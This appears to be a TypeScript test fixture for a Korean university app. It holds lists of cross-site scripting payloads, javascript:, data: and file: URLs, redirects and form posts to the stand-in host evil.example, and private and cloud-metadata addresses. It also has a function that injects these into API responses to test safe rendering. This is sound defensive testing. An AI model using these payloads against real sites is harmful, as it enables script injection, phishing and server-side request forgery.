/** Texts that try to be more than text; each would set `pwned` in the page if it ran, or ask `evil.example` for something. */
export const hostileTexts = [
  '<script>pwned=1</script>',
  '<img src=x onerror="pwned=1">',
  '<svg/onload=pwned=1>',
  '</title><script src="https://evil.example/x.js"></script>',
  '"><iframe src="https://evil.example/"></iframe>',
  `'"--></style></script><b onmouseover=pwned=1>`,
  '<a href="javascript:pwned=1">신청하기</a>',
  '[신청하기](javascript:pwned=1)',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>확인</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '{{constructor.constructor("pwned=1")()}}',
  '$' + '{pwned=1}',
  '%3Cscript%3Epwned%3D1%3C/script%3E',
  '&lt;img src=x onerror=pwned=1&gt;',
  '\\u003cscript\\u003epwned=1\\u003c/script\\u003e',
  '글\u202e이막뒤\u2066\u200b',
  '\u0000\u0008\ud800 끝',
  '__proto__',
  'javascript:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  '아주대 https://ajou.ac.kr@evil.example/login 에서 로그인하세요',
  `${'가'.repeat(3000)}`,
  `${'~'.repeat(5000)}1/1`,
  `${'\u0301'.repeat(400)}제르`,
] as const;

/** Addresses that must lead nowhere, and that no image may be loaded from. */
export const hostileAddresses = [
  'javascript:pwned=1',
  ' JaVa\tscript:pwned=1',
  'java\nscript:pwned=1//https://ajou.ac.kr',
  'javascript://ajou.ac.kr/%0apwned=1',
  'data:text/html,<script>pwned=1</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"/>',
  'vbscript:pwned=1',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'intent://evil.example#Intent;scheme=https;end',
  'https:evil.example',
  '\\\\evil.example\\a.png',
  'https:\\\\evil.example',
  'https://ajou.ac.kr@evil.example/',
  'https://user:word@evil.example/',
  'https://ajou\t.ac.kr@evil.example/',
  'http://',
  'https://\u0000evil.example',
  '',
  ' ',
] as const;

/** Addresses of the student's own network: an image there would be a call into it. */
export const privateAddresses = [
  'http://192.168.0.1/logo.png',
  'http://10.0.0.1/a.png',
  'http://169.254.169.254/latest/meta-data/',
  'http://100.64.0.1/a.png',
  'https://router.lan/a.png',
  'https://printer.home.arpa/a.png',
  'http://[::127.0.0.1]/a.png',
  'http://[2002:7f00:1::]/a.png',
  'http://0x7f.1:9/a.png',
  'http://127.0.0.1:9/a.png',
] as const;

const addressField = /url$|click_action|navigate|link$/i;
const textField = /^(title|content|body|subject|writer|koreanKeyword|koreanTopic|topic|keyword|name|major)$/i;

/** An answer of the API with something hostile in every field that is a text or an address, another one in each row. */
export function poisoned(answer: unknown, round: number): unknown {
  let at = round;
  const next = (list: readonly string[]) => {
    at += 1;
    return list[at % list.length];
  };
  const addresses = [...hostileAddresses, ...privateAddresses];
  const walk = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((each) => walk(each, key));
    if (typeof value === 'object' && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, walk(each, name)]));
    }
    if (typeof value !== 'string' && value !== null) return value;
    if (addressField.test(key)) return next(addresses);
    return textField.test(key) ? next(hostileTexts) : value;
  };
  return walk(answer, '');
}
